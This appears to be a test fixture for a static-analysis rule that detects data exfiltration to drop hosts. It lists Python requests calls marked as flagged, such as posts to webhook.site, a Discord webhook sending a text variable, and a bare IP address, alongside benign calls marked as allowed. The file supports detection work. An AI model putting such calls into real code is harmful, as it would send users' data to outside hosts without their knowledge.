import requests
# ruleid: exfiltration-drop-host
requests.post("https://webhook.site/abc", json={"a": 1})
# ruleid: exfiltration-drop-host
requests.post("https://discord.com/api/webhooks/1234/abcd", json={"content": text})
# ruleid: exfiltration-drop-host
requests.get("http://203.0.113.9/x")
# ok: exfiltration-drop-host
requests.post("http://192.168.1.4:8080/x", json={"a": 1})
# ok: exfiltration-drop-host
requests.post("https://discord.com/api/v10/channels", json={"a": 1})
KNOWN = [
    # ok: exfiltration-drop-host
    "https://webhook.site/",
]
